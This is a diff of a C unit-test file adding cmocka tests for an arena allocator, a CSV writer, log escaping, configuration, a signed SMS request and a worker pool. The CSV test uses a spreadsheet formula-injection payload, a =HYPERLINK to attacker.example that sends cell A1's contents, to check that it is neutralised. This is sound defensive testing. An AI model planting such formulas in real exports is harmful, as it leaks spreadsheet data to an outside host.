@@ -1,4 +1,7 @@
-/* Tests of src/util/ (strbuf, arena, csvread, timeutil, config) and src/web/html.c. */
+/* Tests of src/util/ (strbuf, arena, csvread, csvwrite, timeutil, config, log, sms, workpool)
+ * and src/web/html.c. */
+#include <math.h>
+#include <sodium.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -6,8 +9,12 @@
 #include "util/arena.h"
 #include "util/config.h"
 #include "util/csvread.h"
+#include "util/csvwrite.h"
+#include "util/log.h"
+#include "util/sms.h"
 #include "util/strbuf.h"
 #include "util/timeutil.h"
+#include "util/workpool.h"
 #include "web/html.h"
 
 #include <setjmp.h>
@@ -49,9 +56,42 @@ static void test_arena(void **state)
     void *big = arena_alloc(&a, 50000);
     assert_non_null(big);
     assert_true(((uintptr_t)big & 15) == 0);
+    assert_false(arena_failed(&a));
     assert_null(arena_alloc(&a, 60000)); /* past the budget */
+    /* the refusal is remembered, and the pool is spent: nothing is built after the gap */
+    assert_true(arena_failed(&a));
+    assert_null(arena_alloc(&a, 10));
+    assert_null(arena_strdup(&a, "x"));
+    assert_null(arena_sprintf(&a, "%s", "x"));
+    arena_free(&a); /* as new */
+    assert_false(arena_failed(&a));
     assert_non_null(arena_alloc(&a, 10));
     arena_free(&a);
+}
+
+static void test_arena_fail_after(void **state)
+{
+    (void)state;
+    arena a;
+    arena_init(&a, 0);
+    arena_fail_after(&a, 3);
+    assert_non_null(arena_alloc(&a, 1));
+    assert_non_null(arena_strdup(&a, "two"));
+    assert_false(arena_failed(&a));
+    assert_null(arena_sprintf(&a, "%d", 3)); /* the third */
+    assert_true(arena_failed(&a));
+    assert_null(arena_alloc(&a, 1));
+    /* strdup of NULL is no allocation and no refusal */
+    arena b;
+    arena_init(&b, 0);
+    arena_fail_after(&b, 1);
+    assert_null(arena_strdup(&b, NULL));
+    assert_false(arena_failed(&b));
+    assert_null(arena_strdup(&b, ""));
+    assert_true(arena_failed(&b));
+    arena_free(&a);
+    arena_free(&b);
+    assert_false(arena_failed(NULL));
 }
 
 static void test_html_escape(void **state)
@@ -125,6 +165,59 @@ static void test_csv(void **state)
     assert_int_equal(utf8_length("文云ab"), 4);
 }
 
+/* The CSV writer: byte-order mark, CRLF, quoting, formula-like text neutralised (OWASP:
+ * = + - @ tab CR), numbers as numbers; and its files read back as written. */
+static void test_csv_write(void **state)
+{
+    (void)state;
+    strbuf sb = STRBUF_INIT;
+    csvw w;
+    csvw_begin(&w, &sb);
+    const char *link = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"点击查看\")";
+    csvw_text(&w, link);
+    csvw_text(&w, "+86 812");
+    csvw_text(&w, "-1");
+    csvw_text(&w, "@SUM(A1)");
+    csvw_text(&w, "\tx");
+    csvw_text(&w, "\rx");
+    csvw_row_end(&w);
+    csvw_text(&w, "a,b");
+    csvw_text(&w, NULL);
+    csvw_text(&w, "文云");
+    csvw_int(&w, -42);
+    csvw_real(&w, -12.5, 1);
+    csvw_real(&w, NAN, 3);
+    csvw_text(&w, "'=kept");
+    csvw_row_end(&w);
+    assert_int_equal(csvw_finish(&w), 0);
+    assert_string_equal(sb.buf,
+                        "\xef\xbb\xbf"
+                        "\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"点击查看\"\")\","
+                        "'+86 812,'-1,'@SUM(A1),'\tx,\"'\rx\"\r\n"
+                        "\"a,b\",,文云,-42,-12.5,,'=kept\r\n");
+    /* an importer reads the neutralised text back as it was */
+    rows rs = {0};
+    char err[128];
+    assert_int_equal(csv_read_buffer(sb.buf, sb.len, collect, &rs, err, sizeof(err)), 0);
+    assert_int_equal(rs.n, 2);
+    assert_string_equal(csvw_plain(rs.first[0]), link);
+    assert_string_equal(csvw_plain("'-1"), "-1");
+    assert_string_equal(csvw_plain("'kept"), "'kept");
+    assert_string_equal(csvw_plain("plain"), "plain");
+    assert_true(csvw_formula_like("=1"));
+    assert_false(csvw_formula_like("1=1"));
+    assert_false(csvw_formula_like(""));
+    assert_false(csvw_formula_like(NULL));
+    sb_release(&sb);
+    /* an output past its maximum is an error, not a silently cut file */
+    strbuf small = STRBUF_INIT_MAX(8);
+    csvw_begin(&w, &small);
+    csvw_text(&w, "一二三四五六七八");
+    csvw_row_end(&w);
+    assert_int_equal(csvw_finish(&w), -1);
+    sb_release(&small);
+}
+
 static void test_time(void **state)
 {
     (void)state;
@@ -159,22 +252,147 @@ static void test_config(void **state)
     char path[] = "/tmp/wy-conf-XXXXXX";
     int fd = mkstemp(path);
     FILE *f = fdopen(fd, "w");
-    fputs("[server]\nlisten = 0.0.0.0:9000\n[auth]\nlogin_lock_after = 5\nbogus\n", f);
+    fputs("[server]\nlisten = 0.0.0.0:9000\n[auth]\nlogin_max_delay_s = 5\nbogus\n", f);
     fclose(f);
     assert_int_equal(config_load(&c, path, err, sizeof(err)), -1);
     assert_non_null(strstr(err, ":5:"));
     assert_string_equal(c.listen, "0.0.0.0:9000");
-    assert_int_equal(c.login_lock_after, 5);
+    assert_int_equal(c.login_max_delay_s, 5);
     unlink(path);
     assert_int_equal(config_load(&c, "/nonexistent/wy.conf", err, sizeof(err)), -1);
+}
+
+static void test_log_escape(void **state)
+{
+    (void)state;
+    char out[64];
+    const char in[] = "/a\nINFO forged\r\t\x01\x7f \xe6\x96\x87\\";
+    size_t n = log_escape(out, sizeof(out), in, sizeof(in) - 1, 0);
+    assert_string_equal(out, "/a\\nINFO forged\\r\\t\\x01\\x7f \xe6\x96\x87\\");
+    assert_int_equal(n, strlen(out));
+    /* a field of a line: spaces too */
+    log_escape(out, sizeof(out), "/a b", 4, 1);
+    assert_string_equal(out, "/a\\x20b");
+    /* what does not fit is left out whole: never half an escape */
+    log_escape(out, 6, "ab\ncd", 5, 0);
+    assert_string_equal(out, "ab\\nc");
+    log_escape(out, 4, "ab\ncd", 5, 0);
+    assert_string_equal(out, "ab");
+    assert_int_equal(log_escape(out, 1, "x", 1, 0), 0);
+    assert_string_equal(out, "");
+}
+
+static void test_config_http(void **state)
+{
+    (void)state;
+    wy_config c;
+    char err[256];
+    config_defaults(&c);
+    assert_int_equal(c.small_body_bytes, 64 << 10);
+    assert_int_equal(c.max_body_bytes, 8 << 20);
+    assert_string_equal(c.public_url, "");
+    assert_string_equal(c.trusted_proxies, "");
+    assert_int_equal(config_set(&c, "server", "small_body_bytes", "2048", err, sizeof(err)), 0);
+    assert_int_equal(c.small_body_bytes, 2048);
+    assert_int_equal(config_set(&c, "server", "small_body_bytes", "10", err, sizeof(err)), -1);
+    assert_int_equal(
+        config_set(&c, "server", "trusted_proxies", "127.0.0.1, 10.0.0.0/8", err, sizeof(err)), 0);
+    assert_string_equal(c.trusted_proxies, "127.0.0.1, 10.0.0.0/8");
+}
+
+/* The http SMS provider's request: the parameters sorted and percent-encoded, signed with
+ * HMAC-SHA256 (the expected signature computed independently, with Python's hmac). */
+static void test_sms_http_body(void **state)
+{
+    (void)state;
+    assert_true(sodium_init() >= 0);
+    wy_config c;
+    config_defaults(&c);
+    char err[256];
+    assert_int_equal(sms_check_config(&c, err, sizeof(err)), 0); /* log needs nothing */
+    assert_int_equal(config_set(&c, "sms", "provider", "http", err, sizeof(err)), 0);
+    assert_int_equal(sms_check_config(&c, err, sizeof(err)), -1);
+    assert_non_null(strstr(err, "sms.url"));
+    snprintf(c.sms_url, sizeof(c.sms_url), "http://127.0.0.1:9/sms");
+    snprintf(c.sms_key_id, sizeof(c.sms_key_id), "LTAI-test");
+    snprintf(c.sms_secret, sizeof(c.sms_secret), "s3cret");
+    snprintf(c.sms_sign_name, sizeof(c.sms_sign_name), "文云");
+    snprintf(c.sms_template_register, sizeof(c.sms_template_register), "SMS_001");
+    assert_int_equal(sms_check_config(&c, err, sizeof(err)), -1);
+    assert_non_null(strstr(err, "template_reset"));
+    snprintf(c.sms_template_reset, sizeof(c.sms_template_reset), "SMS_002");
+    assert_int_equal(sms_check_config(&c, err, sizeof(err)), 0);
+    assert_int_equal(config_set(&c, "sms", "provider", "carrier-pigeon", err, sizeof(err)), 0);
+    assert_int_equal(sms_check_config(&c, err, sizeof(err)), -1);
+    snprintf(c.sms_provider, sizeof(c.sms_provider), "http");
+
+    strbuf sb = STRBUF_INIT;
+    sms_message m = {"13800000006", "register", "123456"};
+    assert_int_equal(sms_http_body(&c, &m, "2026-11-22T06:30:00Z", "abc", &sb), 0);
+    assert_string_equal(sb.buf, "AccessKeyId=LTAI-test&PhoneNumbers=13800000006"
+                                "&SignName=%E6%96%87%E4%BA%91&SignatureMethod=HMAC-SHA256"
+                                "&SignatureNonce=abc&SignatureVersion=1.0&TemplateCode=SMS_001"
+                                "&TemplateParam=%7B%22code%22%3A%22123456%22%7D"
+                                "&Timestamp=2026-11-22T06%3A30%3A00Z"
+                                "&Signature=zC0hiou%2FEDsOSPW5ciBb0SznGMNhi%2BtEvW4gl%2B8S54c%3D");
+    sb_reset(&sb);
+    m.purpose = "reset";
+    assert_int_equal(sms_http_body(&c, &m, "2026-11-22T06:30:00Z", "abc", &sb), 0);
+    assert_non_null(strstr(sb.buf, "TemplateCode=SMS_002"));
+    sb_release(&sb);
+    /* a gateway that is not there: an error, not a crash */
+    c.sms_timeout_ms = 500;
+    assert_int_equal(sms_provider_named("http")->send(&c, &m, err, sizeof(err)), -1);
+    assert_non_null(sms_provider_named("log"));
+    assert_null(sms_provider_named("none"));
+}
+
+static void square(size_t i, void *ud)
+{
+    int64_t *v = ud;
+    v[i] = (int64_t)i * (int64_t)i;
+}
+
+static void test_workpool(void **state)
+{
+    (void)state;
+    assert_true(workpool_cores() >= 1);
+    workpool *p = workpool_new(4);
+    assert_non_null(p);
+    assert_int_equal(workpool_size(p), 4);
+    int64_t v[1000];
+    for (int round = 0; round < 50; round++) {
+        size_t n = (size_t)round * 20;
+        memset(v, 0xff, sizeof(v));
+        workpool_run(p, n, square, v);
+        for (size_t i = 0; i < n; i++)
+            assert_int_equal(v[i], (int64_t)i * (int64_t)i);
+        if (n < 1000)
+            assert_int_equal(v[n], -1); /* nothing past the batch */
+    }
+    workpool_free(p);
+    workpool_run(NULL, 3, square, v); /* no pool: the caller alone */
+    assert_int_equal(v[2], 4);
+    p = workpool_new(0);
+    assert_int_equal(workpool_size(p), workpool_cores());
+    workpool_free(p);
 }
 
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_strbuf_max),  cmocka_unit_test(test_arena),
-        cmocka_unit_test(test_html_escape), cmocka_unit_test(test_csv),
-        cmocka_unit_test(test_time),        cmocka_unit_test(test_config),
+        cmocka_unit_test(test_strbuf_max),
+        cmocka_unit_test(test_arena),
+        cmocka_unit_test(test_arena_fail_after),
+        cmocka_unit_test(test_html_escape),
+        cmocka_unit_test(test_csv),
+        cmocka_unit_test(test_time),
+        cmocka_unit_test(test_config),
+        cmocka_unit_test(test_csv_write),
+        cmocka_unit_test(test_log_escape),
+        cmocka_unit_test(test_config_http),
+        cmocka_unit_test(test_sms_http_body),
+        cmocka_unit_test(test_workpool),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
